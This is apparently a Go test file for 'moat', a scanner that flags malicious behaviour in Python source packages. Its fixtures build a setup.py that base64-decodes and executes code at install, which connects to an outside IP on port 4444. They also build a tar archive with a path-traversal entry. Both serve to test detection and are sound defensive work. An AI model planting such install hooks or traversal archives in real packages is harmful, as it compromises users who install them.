package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// sdist writes a real .tar.gz of files under name/ in dir.
func sdist(t *testing.T, dir, name string, files map[string]string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for n, b := range files {
		tw.WriteHeader(&tar.Header{Name: name + "/" + n, Typeflag: tar.TypeReg, Size: int64(len(b)), Mode: 0o644})
		tw.Write([]byte(b))
	}
	tw.Close()
	zw.Close()
	return writeFile(t, filepath.Join(dir, name+".tar.gz"), buf.String())
}

// payloadSetup is a setup.py that decodes and runs code at install: it
// connects to 45.77.1.2:4444 (under the sinkhole: accepted, recorded).
func payloadSetup() string {
	code := base64.StdEncoding.EncodeToString([]byte("import socket\ntry:\n    socket.create_connection(('45.77.1.2', 4444), timeout=5).sendall(b'hi')\nexcept OSError:\n    pass\n"))
	return "import base64\nexec(base64.b64decode('" + code + "'))\nfrom setuptools import setup\nsetup(name='evilpkg', version='1.0', py_modules=['evilpkg'])\n"
}

func TestScanCLI(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	evil := sdist(t, dir, "evilpkg-1.0", map[string]string{
		"PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n\n",
		"setup.py": payloadSetup(), "evilpkg.py": "X = 1\n"})
	clean := sdist(t, dir, "tidy-1.0", map[string]string{
		"PKG-INFO": "Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n\n",
		"setup.py": "from setuptools import setup\nsetup(name='tidy', version='1.0', py_modules=['tidy'])\n", "tidy.py": "def f():\n    return 1\n"})

	// Text: the finding with file and line; exit 1 for medium or above.
	r := moatRun(t, nil, "scan", evil)
	if r.code != 1 || !regexp.MustCompile(`(?m)^  high +execution +setup\.py:2: decodes and executes code`).MatchString(r.stdout) {
		t.Fatalf("scan: %s", r)
	}
	r = moatRun(t, nil, "scan", clean)
	if r.code != 0 || !strings.Contains(r.stdout, "verdict CLEAN") {
		t.Fatalf("clean: %s", r)
	}
	// JSON, SARIF with file and line, HTML.
	sarif, html := filepath.Join(dir, "s.sarif"), filepath.Join(dir, "s.html")
	r = moatRun(t, nil, "scan", "--json", "--sarif", sarif, "--html", html, evil)
	var rep struct {
		Verdict  string
		Findings []struct {
			Rule, Severity, Category string
			Evidence                 []struct {
				Source, Path, Phase string
				Line                int
			}
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil || r.code != 1 || rep.Verdict != "high" {
		t.Fatalf("json: %v %s", err, r)
	}
	ok := false
	for _, f := range rep.Findings {
		ok = ok || f.Rule == "decode-exec" && len(f.Evidence) > 0 && f.Evidence[0].Source == "scan" && f.Evidence[0].Path == "setup.py" &&
			f.Evidence[0].Line == 2 && f.Evidence[0].Phase == "install"
	}
	if !ok {
		t.Fatalf("json lacks decode-exec at setup.py:2: %s", r.stdout)
	}
	data, err := os.ReadFile(sarif)
	if err != nil {
		t.Fatal(err)
	}
	ok = false
	for _, res := range checkSARIF(t, data) {
		locs, _ := res["locations"].([]any)
		if len(locs) == 0 {
			continue
		}
		pl := locs[0].(map[string]any)["physicalLocation"].(map[string]any)
		uri := pl["artifactLocation"].(map[string]any)["uri"].(string)
		region, _ := pl["region"].(map[string]any)
		ok = ok || res["ruleId"] == "moat/execution" && strings.HasSuffix(uri, "evilpkg-1.0.tar.gz/setup.py") && region != nil && region["startLine"] == 2.0
	}
	if !ok {
		t.Fatalf("SARIF lacks the located result: %s", data)
	}
	page, err := os.ReadFile(html)
	if err != nil || !strings.Contains(string(page), "decodes and executes code") || strings.Contains(string(page), "<script") {
		t.Fatalf("html: %v", err)
	}
	// Bad input: one line, 125; a hostile archive is refused.
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	tw.WriteHeader(&tar.Header{Name: "x-1.0/../../owned", Typeflag: tar.TypeReg, Size: 1, Mode: 0o644})
	tw.Write([]byte("x"))
	tw.Close()
	zw.Close()
	hostile := writeFile(t, filepath.Join(dir, "x-1.0.tar.gz"), buf.String())
	oneMoatLine(t, moatRun(t, nil, "scan", hostile), "path traversal")
	oneMoatLine(t, moatRun(t, nil, "scan", filepath.Join(dir, "missing.tar.gz")), "no such file")
	oneMoatLine(t, moatRun(t, nil, "scan", "--analysers", "pylint", clean), "unknown analyser")
}

// TestTestScanConfirmed: moat test --scan puts the scan beside the run;
// the decoded payload in setup.py and the connection it made at install
// are each marked confirmed by the other.
func TestTestScanConfirmed(t *testing.T) {
	requirePyTools(t)
	t.Parallel()
	dir := t.TempDir()
	evil := sdist(t, dir, "evilpkg-1.0", map[string]string{
		"PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n\n",
		"setup.py": payloadSetup(), "evilpkg.py": "X = 1\n"})
	r := moatRun(t, nil, "test", "--json", "--quiet", "--scan", "--phases", "install", evil)
	var rep struct {
		Findings []struct{ Phase, Severity, Category, Summary, Confirmed string }
		Scan     *struct {
			Verdict  string
			Findings []struct{ Rule, Confirmed string }
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil || rep.Scan == nil {
		t.Fatalf("json: %v %s", err, r)
	}
	scanOK, runOK := false, false
	for _, f := range rep.Scan.Findings {
		scanOK = scanOK || f.Rule == "decode-exec" && strings.HasPrefix(f.Confirmed, "install: ")
	}
	for _, f := range rep.Findings {
		runOK = runOK || f.Phase == "install" && strings.Contains(f.Summary, "45.77.1.2") && strings.HasPrefix(f.Confirmed, "scan: setup.py:2")
	}
	if !scanOK || !runOK || rep.Scan.Verdict != "high" {
		t.Fatalf("not confirmed (scan %v, run %v): %s", scanOK, runOK, r.stdout)
	}
	// The text summary shows both, marked.
	r = moatRun(t, nil, "test", "--quiet", "--scan", "--phases", "install", evil)
	if !strings.Contains(r.stdout, "scan (no code ran): ") || !strings.Contains(r.stdout, "[confirmed by the run: install:") ||
		!strings.Contains(r.stdout, "[confirmed by the scan: setup.py:2") {
		t.Fatalf("summary: %s", r)
	}
}
